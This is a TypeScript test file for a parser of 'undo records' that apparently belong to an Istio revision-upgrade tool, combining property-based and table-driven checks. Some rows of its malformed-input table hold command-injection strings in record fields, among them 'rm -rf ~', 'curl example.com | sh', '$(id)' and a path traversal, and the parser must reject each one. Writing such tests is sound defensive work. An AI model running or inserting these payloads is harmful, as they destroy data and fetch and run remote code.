import assert from "node:assert/strict";
import test from "node:test";
import fc from "fast-check";
import { isMalformed } from "../../../src/upgrade/record/record-fields.ts";
import type { UndoRecord } from "../../../src/upgrade/record/undo-record.ts";
import { parseUndoRecord, sameRecord, undoText } from "../../../src/upgrade/record/undo-record.ts";

const record: UndoRecord = {
  version: 1, run: "r1", target: { label: "prod", revision: "1-20", tag: "prod" }, stamp: "2026-11-03T04:05:06Z", namespaceUid: "u1",
  before: { "istio-injection": "enabled", "istio.io/rev": null }, from: { revision: "default", deploymentUid: "u2" }, state: "open",
}; // biome-ignore format: one line of fields

const text = fc.string({ minLength: 1 });
const word = fc.stringMatching(/^[A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?$/);
const label = fc.option(fc.oneof(word, fc.constant("")), { nil: null });
const instant = fc.constantFrom("2026-11-03T04:05:06Z", "2027-01-01T00:00:00Z");
const records: fc.Arbitrary<UndoRecord> = fc.record({
  version: fc.constant(1 as const), run: word, target: fc.record({ label: word, revision: word, tag: fc.option(word, { nil: undefined }) }, { noNullPrototype: true }), stamp: instant, namespaceUid: text,
  before: fc.record({ "istio-injection": label, "istio.io/rev": label }, { noNullPrototype: true }), from: fc.record({ revision: word, deploymentUid: fc.option(text, { nil: undefined }) }, { noNullPrototype: true }), state: fc.constantFrom("open" as const, "done" as const),
}, { noNullPrototype: true }); // biome-ignore format: a table

test("a record that is written and read again is equal; absent and empty labels differ", () => {
  fc.assert(fc.property(records, (written) => assert.deepEqual(parseUndoRecord(undoText(written)), written)));
});

test("the text of a record is the same, in whatever order its fields were given", () => {
  const reversed = (value: unknown): unknown =>
    typeof value === "object" && value !== null
      ? Object.fromEntries(
          Object.entries(value)
            .reverse()
            .map(([key, field]) => [key, reversed(field)]),
        )
      : value;
  const other = reversed(record) as UndoRecord;
  assert.notEqual(JSON.stringify(other), JSON.stringify(record), "the order differs");
  assert.equal(undoText(other), undoText(record));
  assert.equal(
    undoText(record),
    '{"version":1,"run":"r1","target":{"label":"prod","revision":"1-20","tag":"prod"},"stamp":"2026-11-03T04:05:06Z",' +
      '"namespaceUid":"u1","before":{"istio-injection":"enabled","istio.io/rev":null},' +
      '"from":{"revision":"default","deploymentUid":"u2"},"state":"open"}',
  );
});

test("records are compared by their values", () => {
  const { version, state, ...rest } = record;
  assert.equal(sameRecord(record, { state, ...rest, version }), true, "the order of fields does not matter");
  assert.equal(sameRecord({ ...record, target: { ...record.target, tag: undefined } }, record), false);
  const others: readonly Partial<UndoRecord>[] = [
    { run: "r2" },
    { target: { ...record.target, label: "1-20" } },
    { target: { ...record.target, revision: "1-21" } },
    { stamp: "2026-11-03T04:05:07Z" },
    { namespaceUid: "u3" },
    { before: { "istio-injection": "enabled", "istio.io/rev": "" } },
    { before: { "istio-injection": null, "istio.io/rev": null } },
    { from: { revision: "1-19", deploymentUid: "u2" } },
    { from: { revision: "default", deploymentUid: undefined } },
    { state: "done" },
  ];
  for (const other of others) assert.equal(sameRecord(record, { ...record, ...other }), false, JSON.stringify(other));
});

test("any text is a record or malformed, never an error", () => {
  fc.assert(fc.property(fc.oneof(fc.string(), fc.json()), (any) => assert.ok(isMalformed(parseUndoRecord(any)))));
});

test("a record without any one of its fields is malformed", () => {
  for (const field of Object.keys(record)) {
    const { [field as keyof UndoRecord]: _, ...rest } = record;
    assert.ok(isMalformed(parseUndoRecord(JSON.stringify(rest))), field);
  }
});

const damaged: readonly (readonly [change: object, malformed: string])[] = [
  [{ version: undefined }, "it has no version"],
  [{ version: "1" }, "it has no version"],
  [{ run: "" }, "its field run, stamp or namespaceUid is missing"],
  [{ target: { label: "prod", tag: "prod" } }, "its field target is incomplete"],
  [{ target: { revision: "1-20" } }, "its field target is incomplete"],
  [{ target: { ...record.target, tag: 1 } }, "its field target is incomplete"],
  [{ before: { "istio.io/rev": null } }, "its field before is incomplete"],
  [{ before: { "istio-injection": 1, "istio.io/rev": null } }, "its field before is incomplete"],
  [{ from: { deploymentUid: "u2" } }, "its field from is incomplete"],
  [{ from: { revision: "default", deploymentUid: 1 } }, "its field from is incomplete"],
  [{ from: null }, "its field from is incomplete"],
  // What no run of ours writes: it would be printed in commands, or sent to the API server.
  [{ run: "a1; rm -rf ~" }, "its field run, stamp or namespaceUid is missing"],
  [{ stamp: "yesterday" }, "its field run, stamp or namespaceUid is missing"],
  [{ target: { ...record.target, label: "1-20; curl example.com | sh" } }, "its field target is incomplete"],
  [{ target: { ...record.target, revision: "1-20\nerror: no" } }, "its field target is incomplete"],
  [{ target: { ...record.target, tag: "\u001b[31m" } }, "its field target is incomplete"],
  [{ before: { ...record.before, "istio-injection": "$(id)" } }, "its field before is incomplete"],
  [{ before: { ...record.before, "istio.io/rev": "x".repeat(64) } }, "its field before is incomplete"],
  [{ from: { ...record.from, revision: "../default" } }, "its field from is incomplete"],
]; // biome-ignore format: a table

for (const [change, malformed] of damaged) {
  test(`a record with ${JSON.stringify(change)} is malformed`, () => {
    assert.deepEqual(parseUndoRecord(JSON.stringify({ ...record, ...change })), { malformed });
  });
}

test("a record of a later version is malformed, and unknown fields of this version are ignored", () => {
  assert.deepEqual(parseUndoRecord(JSON.stringify({ ...record, version: 2 })), {
    malformed: "its version is 2, and this release supports version 1",
  });
  assert.deepEqual(parseUndoRecord(JSON.stringify({ ...record, more: 1 })), record);
});
